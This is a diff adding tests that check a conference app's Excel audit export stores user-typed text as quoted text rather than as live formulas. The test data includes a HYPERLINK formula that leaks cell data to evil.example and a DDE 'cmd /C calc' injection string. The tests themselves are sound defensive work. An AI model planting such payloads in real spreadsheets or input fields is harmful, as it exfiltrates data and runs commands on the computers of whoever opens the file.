@@ -135,6 +135,36 @@ def test_export_has_chinese_headers_and_the_filtered_rows(staff_client, entries)
     assert (newest[4], newest[8], newest[9], newest[10]) == ("organisation.rejected", "待审核", "未通过", "信用代码不符")
 
 
+def test_export_writes_typed_text_as_text_never_as_a_formula(client, make_user):
+    from tests.app.helpers import csrf_token
+
+    formula = '=hyperlink("http://evil.example/?"&c2,"详情")'  # addresses are kept in lower case
+    token = csrf_token(client, "/auth/login")
+    client.post("/auth/login", data={"email": formula, "password": "x", "csrf_token": token})
+    record("user.updated", make_user(Role.EXPERT), comment="+cmd|' /C calc'!A0")
+    db.session.commit()
+    log_in_session(client, make_user(Role.STAFF))
+    sheet = load_workbook(BytesIO(client.get("/audit/export.xlsx").data)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+"))]
+    assert formula in [cell.value for cell in risky] and "+cmd|' /C calc'!A0" in [cell.value for cell in risky]
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
+
+
+def test_append_row_keeps_numbers_and_dates_and_makes_strings_text():
+    from openpyxl import Workbook
+
+    from conference_app.core.excel import append_row
+
+    sheet = Workbook().active
+    append_row(sheet, ["=1+2", "-3", "@SUM(A1)", "plain", 7, utc(2026, 1, 1).replace(tzinfo=None), None])
+    cells = sheet[1]
+    assert [cell.data_type for cell in cells[:4]] == ["s", "s", "s", "s"]
+    assert [cell.quotePrefix for cell in cells[:4]] == [True, True, True, False]
+    assert cells[0].value == "=1+2" and cells[4].data_type == "n" and cells[5].is_date
+
+
 @pytest.mark.parametrize("role", [Role.ANALYST, Role.EXPERT, Role.SOCIETY])
 def test_only_staff_see_the_log(client, make_user, role):
     log_in_session(client, make_user(role))
